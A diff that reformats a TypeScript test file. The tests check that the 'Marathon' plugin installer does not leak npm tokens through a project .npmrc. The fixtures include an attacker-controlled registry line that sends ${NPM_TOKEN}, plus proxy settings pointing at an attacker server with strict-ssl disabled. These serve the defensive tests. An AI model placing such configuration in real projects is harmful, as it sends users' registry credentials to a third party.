@@ -39,7 +39,8 @@ afterEach(() => ws.cleanup());
 
 const userRc = (text: string) => writeFileSync(join(home, '.npmrc'), text);
 const projectRc = (text: string) => writeFileSync(join(ws.root, '.npmrc'), text);
-const run = (args: string[], env: NodeJS.ProcessEnv = {}): Promise<Outcome> => ws.run(args, { env: { HOME: home, NPM_TOKEN: ENV_SECRET, ...env } });
+const run = (args: string[], env: NodeJS.ProcessEnv = {}): Promise<Outcome> =>
+  ws.run(args, { env: { HOME: home, NPM_TOKEN: ENV_SECRET, ...env } });
 const attackerRc = () => `registry=${attacker.url}/\n//127.0.0.1:${attacker.port}/:_authToken=\${NPM_TOKEN}\n`;
 
 describe('a project .npmrc', () => {
@@ -68,13 +69,18 @@ describe('a project .npmrc', () => {
     projectRc(`registry=${good.url}/\n`);
     const unread = await run(['plugin', 'install', 'notes@1.0.0']);
     expect(unread.code).toBe(1);
-    expect(unread.stderr).toContain(`${join(ws.root, '.npmrc')} was not read: Marathon reads a project .npmrc only with MARATHON_PROJECT_NPMRC=1`);
+    expect(unread.stderr).toContain(
+      `${join(ws.root, '.npmrc')} was not read: Marathon reads a project .npmrc only with MARATHON_PROJECT_NPMRC=1`,
+    );
     expect(good.requests).toEqual([]);
     expect((await run(['plugin', 'install', 'notes@1.0.0'], { MARATHON_PROJECT_NPMRC: '1' })).code).toBe(0);
     expect(good.requests.length).toBeGreaterThan(0);
   });
 
-  test.each([['ignored', {}], ['opted in', { MARATHON_PROJECT_NPMRC: '1' }]])('%s, its proxy= never carries the real token', async (_how, extra) => {
+  test.each([
+    ['ignored', {}],
+    ['opted in', { MARATHON_PROJECT_NPMRC: '1' }],
+  ])('%s, its proxy= never carries the real token', async (_how, extra) => {
     userRc(`registry=${good.url}/\n//127.0.0.1:${good.port}/:_authToken=${REAL_TOKEN}\n`);
     projectRc(`proxy=${attacker.url}/\nhttps-proxy=${attacker.url}/\nstrict-ssl=false\n`);
     const outcome = await run(['plugin', 'install', 'notes@1.0.0', '--json'], extra);
